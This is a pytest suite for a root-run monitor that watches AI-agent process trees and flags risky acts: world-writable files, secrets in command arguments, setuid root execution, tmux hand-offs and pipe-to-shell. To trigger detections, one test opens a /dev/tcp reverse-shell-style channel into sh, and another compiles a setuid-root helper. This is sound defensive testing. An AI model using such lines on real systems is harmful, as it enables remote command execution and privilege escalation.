"""The service as scripts and service managers rely on it, in a fresh process on the real kernel."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import time
from collections.abc import Iterator
from contextlib import nullcontext
from pathlib import Path

import pytest

from guard.monitor.answers import ask
from tests.conftest import GUARD, LONG, Account
from tests.monitor.desk import token
from tests.monitor.running import Monitor, events_service, loud, running

pytestmark = [pytest.mark.root, pytest.mark.usefixtures("kernel_side")]


@pytest.fixture(scope="module")
def monitor(kernel_side: None) -> Iterator[Monitor]:
    """One for all tests that need no settings of their own."""
    with running() as made:
        yield made


# The contract ----------------------------------------------------------------------------------------------------


def test_it_says_when_it_is_ready_and_by_which_backend(monitor: Monitor) -> None:
    assert b"READY=1" in monitor.said
    assert b"STATUS=backend " in monitor.said
    start = monitor.rule("monitor-start")
    assert start["detail"]["backend"] in ("lsm", "fmod", "tracepoint", "bcc", "poll")
    assert start["origin"] == "service"


def test_an_act_of_an_agent_is_told_with_its_tree_and_process(monitor: Monitor) -> None:
    root = monitor.act("touch f; chmod 777 f")
    event = monitor.rule("world-writable", root)
    assert event["severity"] == "medium"
    assert event["origin"] == "kernel"
    assert event["control"] == "world-writable"
    assert event["tree"]["harness"] == "test"
    assert event["tree"]["user"] == "root"
    assert event["tree"]["session"]
    assert event["process"]["argv"] == ["chmod", "777", "f"]
    assert event["process"]["exe"].endswith("/chmod")
    assert event["detail"]["path"].endswith("/f")
    assert event["mitre"] == ["T1222.002"]


def test_the_same_act_outside_of_every_tree_is_not_told(monitor: Monitor) -> None:
    path = monitor.place / f"out-{time.monotonic_ns()}"
    path.touch()
    subprocess.run(["chmod", "777", str(path)], check=True)
    root = monitor.act("touch f; chmod 777 f")
    monitor.rule("world-writable", root)
    assert not [e for e in monitor.events() if e["detail"].get("path") == str(path)]


def test_what_outlives_the_harness_is_told_with_the_harness_as_root(monitor: Monitor) -> None:
    process = monitor.begin("mkfifo p; setsid sh -c 'read x < p; touch f; chmod 666 f' & sleep 0.3")
    process.wait()
    fifo = next(p for p in monitor.place.rglob("p") if p.is_fifo())
    assert not [e for e in monitor.events(process.pid) if e["rule"] == "tree-stop"]
    fifo.write_text("go\n")
    assert monitor.rule("world-writable", process.pid)["tree"]["root_pid"] == process.pid
    monitor.rule("tree-stop", process.pid)


def test_a_fake_harness_in_another_users_hands_is_that_users(monitor: Monitor, account: Account) -> None:
    home = account.directory("agent")
    root = monitor.act("touch f; chmod 777 f", cwd=home, user=account.uid, group=account.gid)
    event = monitor.rule("world-writable", root)
    assert (event["tree"]["uid"], event["tree"]["user"]) == (account.uid, account.name)


def test_a_network_that_counts_as_outside_is_named_on_the_command_line() -> None:
    with running("--external", "127.9.9.0/24") as made, socket.socket() as server:
        server.bind(("127.9.9.9", 0))
        server.listen()
        port = server.getsockname()[1]
        process = made.begin(f"exec 3<>/dev/tcp/127.9.9.9/{port}; sh <&3")
        channel, _ = server.accept()
        with channel:
            channel.sendall(b"touch proven\n")
        process.wait()
        event = made.until(lambda e: e["control"] == "pipe-to-shell" and e["severity"] == "high", process.pid)
        assert event["tree"]["harness"] == "test"


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_told_to_stop_it_hands_everything_on_and_leaves_nothing(number: int) -> None:
    with running() as made:
        root = made.act("for i in $(seq 40); do touch f$i; chmod 777 f$i; done")
        assert made.stop(number) == 0
        assert len({e["detail"]["path"] for e in made.events(root) if e["rule"] == "world-writable"}) == 40
        assert [e["rule"] for e in made.events()][-1] == "monitor-stop"
        assert not (made.state / "monitor.sock").exists()


def test_a_second_monitor_is_refused_and_the_first_goes_on(monitor: Monitor) -> None:
    done = subprocess.run(
        [GUARD, "monitor"], env=monitor.environment, capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 3
    assert "listens at" in done.stderr
    assert "one runs a node" in done.stderr
    assert monitor.guard("ps").returncode == 0


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["--backend", "magic"], "--backend"),
        (["--harness", "x"], "NAME=BASENAME"),
        (["--harness", "x=bash"], "a person's shell"),
        (["--external", "10.0.0.300/8"], "--external"),
        (["--what"], "--what"),
    ],
)
def test_a_wrong_command_line_is_one_clear_error(words: list[str], says: str) -> None:
    done = subprocess.run([GUARD, "monitor", *words], capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert says in done.stderr
    assert len(done.stderr.splitlines()) == 1


def test_an_ordinary_user_is_told_that_it_needs_root(account: Account) -> None:
    done = account.cli("monitor")
    assert done.returncode == 3
    assert "root" in done.stderr


def test_a_settings_file_that_does_not_load_is_shown_with_its_place() -> None:
    with running(start=False) as made:
        made.settings('[monitor]\nunwraped = "low"\n')
        done = made.guard("monitor")
        assert done.returncode == 3
        assert "monitor.toml:3:1" in done.stderr
        assert "did you mean unwrapped?" in done.stderr


def test_settings_are_read_again_on_sighup_and_a_broken_file_changes_nothing() -> None:
    with running() as made:
        root = made.act("touch f; chmod 777 f")
        assert made.rule("world-writable", root)["severity"] == "medium"
        made.settings('[severity]\nworld-writable = "critical"\n')
        made.send(signal.SIGHUP)
        made.until_notified(b"READY=1")
        root = made.act("touch f; chmod 777 f")
        assert made.rule("world-writable", root)["severity"] == "critical"
        made.settings("[severity\n")
        made.send(signal.SIGHUP)
        assert "monitor.toml" in made.rule("settings")["detail"]["why"]
        root = made.act("touch f; chmod 777 f")
        assert made.rule("world-writable", root)["severity"] == "critical"


def test_the_service_manager_s_watchdog_is_fed() -> None:
    with running(start=False) as made:
        made.start(WATCHDOG_USEC="400000")
        made.until_notified(b"WATCHDOG=1")
        made.until_notified(b"WATCHDOG=1")


# Trees over a restart --------------------------------------------------------------------------------------------


def test_agents_that_run_already_are_watched_from_the_start() -> None:
    with running(start=False) as made:
        process = made.begin("mkfifo go; sh -c 'read x < go; touch f; chmod 777 f'")
        fifo = _until_fifo(made)
        made.start()
        assert made.rule("tree-start", process.pid)["detail"]["seeded"] is True
        fifo.write_text("go\n")
        assert made.rule("world-writable", process.pid)["tree"]["harness"] == "test"


def _until_fifo(made: Monitor) -> Path:
    deadline = time.monotonic() + 20
    while True:
        found = [p for p in made.place.rglob("go") if p.is_fifo()]
        if found:
            return found[0]
        assert time.monotonic() < deadline
        time.sleep(0.02)


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL])
def test_a_restart_takes_up_its_trees_also_orphans_and_tells_the_gap(number: int) -> None:
    with running() as made:
        process = made.begin("mkfifo go; setsid sh -c 'read x < go; touch f; chmod 777 f' & sleep 0.2")
        fifo = _until_fifo(made)
        process.wait()
        before = made.rule("tree-start", process.pid)["tree"]["session"]
        made.until(lambda _: str(process.pid) in (made.state / "monitor.json").read_text() or number == signal.SIGTERM)
        made.stop(number)
        made.start()
        gap = made.rule("monitor-gap")
        assert gap["detail"]["taint_lost"] is True
        assert gap["detail"]["from"] <= gap["detail"]["to"]
        assert gap["severity"] == ("low" if number == signal.SIGTERM else "medium")
        fifo.write_text("go\n")
        event = made.rule("world-writable", process.pid)
        assert event["tree"]["harness"] == "test"
        assert event["tree"]["session"] == before


# What is asked ---------------------------------------------------------------------------------------------------


def test_ps_lists_trees_with_user_time_and_findings_and_to_a_user_only_his_own(
    monitor: Monitor, account: Account
) -> None:
    mine = monitor.begin("touch f; chmod 777 f; sleep 60")
    other = monitor.begin("sleep 60", cwd=account.home, user=account.uid, group=account.gid)
    try:
        monitor.rule("world-writable", mine.pid)
        monitor.rule("tree-start", other.pid)
        rows = {row["pid"]: row for row in json.loads(monitor.guard("ps", "--json").stdout)["trees"]}
        assert rows[mine.pid]["harness"] == "test"
        assert rows[mine.pid]["findings"]["medium"] == 1
        assert rows[other.pid]["user"] == account.name
        plain = monitor.guard("ps").stdout
        assert f"{mine.pid} " in plain
        assert "1 medium" in plain
        assert all(len(line) < 80 for line in plain.splitlines())
        monitor.state.chmod(0o755)
        done = account.command([GUARD, "--state", str(monitor.state), "ps", "--json"])
        assert [row["pid"] for row in json.loads(done.stdout)["trees"] if row["user"] != account.name] == []
        assert other.pid in [row["pid"] for row in json.loads(done.stdout)["trees"]]
    finally:
        monitor.state.chmod(0o700)
        for process in (mine, other):
            os.kill(process.pid, signal.SIGKILL)
            process.wait()


def test_ps_without_a_monitor_says_how_to_start_one() -> None:
    with running(start=False) as made:
        done = made.guard("ps")
        assert done.returncode == 3
        assert "guard monitor" in done.stderr
        assert done.stdout == ""


def test_metrics_are_counts_without_user_path_or_session(monitor: Monitor) -> None:
    root = monitor.act("touch f; chmod 777 f")
    event = monitor.rule("world-writable", root)
    answer = ask(str(monitor.state / "monitor.sock"), b"GET /metrics HTTP/1.0\r\n\r\n").decode()
    head, _, body = answer.partition("\r\n\r\n")
    assert head.startswith("HTTP/1.0 200")
    assert 'guard_monitor_findings_total{rule="world-writable"} ' in body
    assert 'guard_monitor_lost_total{stage="alerts"} 0' in body
    for name in ("trees", "processes", "unlabelled_execs_total", "cost_ratio", "resident_bytes"):
        assert f"\nguard_monitor_{name} " in body
    for secret in (event["tree"]["session"], event["detail"]["path"], "user=", "/var/tmp"):
        assert secret not in body


def test_metrics_stand_on_a_loopback_port_where_the_site_says_so() -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    with (
        running(config=f"[monitor]\nmetrics_port = {port}\n"),
        socket.create_connection(("127.0.0.1", port)) as channel,
    ):
        channel.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
        assert b"guard_monitor_info" in channel.makefile("rb").read()


def test_who_asks_nonsense_or_never_reads_holds_up_nobody(monitor: Monitor) -> None:
    idle = [socket.socket(socket.AF_UNIX) for _ in range(100)]
    try:
        for peer in idle:
            peer.connect(str(monitor.state / "monitor.sock"))
            peer.sendall(b"x" * 100)
        root = monitor.act("touch f; chmod 777 f")
        monitor.rule("world-writable", root)
        assert monitor.guard("ps").returncode == 0
        assert b"error" in ask(str(monitor.state / "monitor.sock"), b"rubbish")
    finally:
        for peer in idle:
            peer.close()


def test_events_reach_the_service_that_starts_later_each_once() -> None:
    with running() as made:
        first = made.act("touch f; chmod 777 f")
        made.rule("world-writable", first)
        with events_service(made):
            second = made.act("touch f; chmod 777 f")
            made.rule("world-writable", second)
            made.stop()
            events = made.events()
            assert len({event["id"] for event in events}) == len(events)
            for root in (first, second):
                assert [e["rule"] for e in events if e["tree"]["root_pid"] == root].count("world-writable") == 1
            assert [e["rule"] for e in events if e["producer"] == "monitor"][-1] == "monitor-stop"
            assert made.guard("events", "--verify").returncode == 0


# Secrets ---------------------------------------------------------------------------------------------------------


def test_a_secret_in_arguments_is_told_and_no_byte_of_it_is_stored_anywhere(monitor: Monitor) -> None:
    key, half = token(), token()
    sixty = " ".join(f"a{n}" for n in range(58))
    text = f"/bin/true --token {key}; sh -c 'T={key}; true'; /bin/true {half[:20]} {half[20:]}; " \
           f"/bin/true {sixty} {'y' * 8900} {key}"  # fmt: skip
    process = monitor.begin('read script; eval "$script"', stdin=subprocess.PIPE)
    assert process.stdin is not None
    process.stdin.write(text.encode() + b"\n")
    process.stdin.close()
    process.wait()
    monitor.rule("tree-stop", process.pid)
    told = [e for e in monitor.events(process.pid) if e["rule"] == "exposed-secret"]
    assert len(told) == 4
    assert {e["control"] for e in told} == {"exposure"}
    assert len({e["detail"]["fingerprint"] for e in told}) == 2
    assert [e["detail"]["split"] for e in told].count(True) == 1
    assert all(e["detail"]["key_id"] and e["detail"]["advice"] for e in told)
    stored = [path for path in [*monitor.place.rglob("*")] if path.is_file() and path != monitor.agent]
    assert any(path.name == "spool.db" for path in stored)
    for path in stored:
        content = path.read_bytes()
        for secret in (key, half, half[:20], half[20:]):
            assert secret.encode() not in content, path


def test_a_storm_of_secrets_leaves_each_told_and_none_stored() -> None:
    keys = [token() for _ in range(1000 if LONG else 250)]
    with running() as made:
        process = made.begin('while read -r key; do /bin/true --token "$key"; done', stdin=subprocess.PIPE)
        assert process.stdin is not None
        process.stdin.write("".join(f"{key}\n" for key in keys).encode())
        process.stdin.close()
        process.wait()
        made.rule("tree-stop", process.pid)
        told = [e for e in made.events(process.pid) if e["rule"] == "exposed-secret"]
        assert len({e["detail"]["fingerprint"] for e in told}) == len(keys)
        made.stop()
        stored = b"".join(p.read_bytes() for p in made.place.rglob("*") if p.is_file() and p != made.agent)
        assert not [key for key in keys if key[4:].encode() in stored]


def test_a_user_s_secret_in_a_program_outside_of_every_tree_is_not_looked_at(monitor: Monitor) -> None:
    key = token()
    subprocess.run(["/bin/true", "--token", key], check=True)
    root = monitor.act("true")
    monitor.rule("tree-stop", root)
    assert not [e for e in monitor.events() if e["control"] == "exposure" and e["process"]["ppid"] == os.getpid()]


# Trees and rights ------------------------------------------------------------------------------------------------


def test_root_below_another_user_s_agent_is_told(monitor: Monitor, account: Account, tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    source, helper = monitor.place / "up.c", monitor.place / "up"
    source.write_text(
        '#include <unistd.h>\nint main(void){setgid(0);setuid(0);execl("/usr/bin/id","id",(char*)0);return 1;}\n'
    )
    subprocess.run(["gcc", "-o", str(helper), str(source)], check=True)
    helper.chmod(0o4755)
    root = monitor.act(str(helper), cwd=account.home, user=account.uid, group=account.gid)
    event = monitor.rule("root-exec", root)
    assert event["severity"] == "high"
    assert event["tree"]["uid"] == account.uid


def test_a_session_of_guard_run_labels_itself_and_is_not_called_unwrapped(monitor: Monitor, account: Account) -> None:
    project = account.directory("p")
    monitor.agent.chmod(0o755)
    agent = account.write(project / monitor.agent.name, monitor.agent.read_bytes(), 0o755)
    done = account.guard([str(agent), "-c", "touch g; chmod 777 g; true"], cwd=project)
    assert done.returncode == 0, done.stderr
    mine = monitor.until(lambda e: e["detail"].get("how") == "guard-run" and e["tree"]["uid"] == account.uid)
    root = mine["tree"]["root_pid"]
    end = monitor.rule("tree-stop", root)
    # The supervisor reads the memory of what it confines: that is no hold of a stranger.
    assert {"unwrapped-agent", "takes-hold"}.isdisjoint(e["rule"] for e in monitor.events(root))
    assert end["tree"]["harness"] == "test"
    assert end["tree"]["session"]


def test_work_given_to_a_tmux_server_outside_of_the_tree_is_told(monitor: Monitor) -> None:
    if shutil.which("tmux") is None:
        pytest.skip("no tmux here")
    socket_at = monitor.place / "tmux"
    tmux = ["tmux", "-S", str(socket_at), "-f", "/dev/null"]
    subprocess.run([*tmux, "new", "-d", "sleep 600"], check=True, env=monitor.environment, cwd=monitor.place)
    try:
        root = monitor.act(f"tmux -S {socket_at} neww -d true")
        event = monitor.rule("hand-off", root)
        assert (event["severity"], event["detail"]["to"]) == ("medium", "tmux")
    finally:
        subprocess.run([*tmux, "kill-server"], check=False)


def test_an_agent_without_guard_is_told_at_the_severity_the_site_chooses() -> None:
    with running(config='[monitor]\nunwrapped = "high"\n') as made:
        root = made.act("true")
        assert made.rule("unwrapped-agent", root)["severity"] == "high"


def test_a_users_trees_can_be_left_out(account: Account) -> None:
    with running(config=f"[monitor]\nexempt_users = [{account.uid}]\n") as made:
        own = [str(made.agent), "-c", "touch f; chmod 777 f; true"]
        assert account.command(own, cwd=account.directory("x")).returncode == 0
        root = made.act("touch f; chmod 777 f")
        made.rule("world-writable", root)
        assert not [e for e in made.events() if e["tree"]["uid"] == account.uid]


def test_programs_of_nobody_s_agent_are_counted_without_names(monitor: Monitor) -> None:
    with running() as made:
        for _ in range(30):
            subprocess.run(["/bin/true"], check=True)
        made.stop()
        event = made.rule("executions")
        assert event["detail"]["execs"] >= 30
        assert event["process"]["argv"] == []
        assert event["tree"]["user"] == ""


def test_a_program_is_counted_once_an_agent_s_or_nobody_s_also_over_a_restart() -> None:
    """Of a node on which others may work, too: what is counted wrongly would be 3,000 more."""
    count = 3000
    text = f"for i in $(seq {count}); do /bin/true; done; squeue --me 2> /dev/null; true"
    with running() as made:
        before = made.metric("unlabelled_execs_total")
        root = made.act(text)
        assert made.rule("tree-stop", root)["detail"]["execs"] >= count
        between = made.metric("unlabelled_execs_total")
        subprocess.run(["/bin/sh", "-c", text], check=True)
        assert between - before + count / 2 < made.metric("unlabelled_execs_total") - between
        made.stop()
        made.start()
        made.stop()
        agents = [e["detail"]["agents_execs"] for e in made.events() if e["rule"] == "executions"]
        assert agents[0] >= count
        assert agents[1] < agents[0]


def test_ordinary_acts_of_an_agent_ask_for_nobody_s_attention(monitor: Monitor) -> None:
    text = "mkdir d; touch d/f; chmod 755 d; chmod 640 d/f; ls -la; cat d/f; python3 -c 'print(1)'; sh -c 'echo hi'; sleep 0.1"
    assert loud(monitor.all_of(text)) == []


def test_above_the_site_s_cap_on_cost_only_execs_and_binds_are_watched_and_that_is_told() -> None:
    """Longer than other tests: above the cap for half a minute is what the site has to pay before anything is taken off."""
    act = "touch f; chmod 777 f; /usr/bin/python3 -c 'import socket as s; t=s.socket(); t.bind((\"0.0.0.0\", 29871))'"
    with running(config="[monitor]\nmax_cost = 0.001\n") as made:
        before = made.act(act)
        assert made.rule("world-writable", before)
        assert made.rule("bind-outside", before)
        busy = made.begin("while :; do /bin/true; done")
        try:
            told = made.until(lambda event: event["rule"] == "coverage-lost", seconds=90)
        finally:
            busy.kill()
            busy.wait()
        assert told["severity"] == "medium"
        assert told["detail"]["cost"] > told["detail"]["max_cost"] == 0.001
        assert {"modes", "code from outside"} <= set(told["detail"]["missing"])
        said = {event["rule"]: event["detail"] for event in made.all_of(act)}
        assert "world-writable" not in said
        assert "bind-outside" in said
        assert said["tree-stop"]["execs"] >= 3
        assert made.metric("coverage_full") == 0


@pytest.mark.parametrize("served", [False, True], ids=["own spool", "events service"])
def test_it_holds_at_most_forty_megabytes_with_a_tree_at_work_and_its_rules_used(served: bool) -> None:
    acts = (
        "touch f; chmod 777 f", f"/bin/true --token {token()}", "for i in $(seq 500); do /bin/true $i; done",
        "/usr/bin/python3 -c 'import socket as s; t=s.socket(); t.bind((\"0.0.0.0\", 29873)); t.listen()'",
    )  # fmt: skip
    with running() as made, events_service(made) if served else nullcontext():
        assert made.process is not None
        busy = made.begin("while :; do /bin/true; done")
        try:
            said = {event["rule"] for act in acts for event in made.all_of(act)}
            assert {"world-writable", "exposed-secret", "bind-outside"} <= said
            status = Path(f"/proc/{made.process.pid}/status").read_text().splitlines()
            kilobytes = int(next(line for line in status if line.startswith("VmRSS:")).split()[1])
            assert kilobytes <= 40 << 10
        finally:
            busy.kill()
            busy.wait()
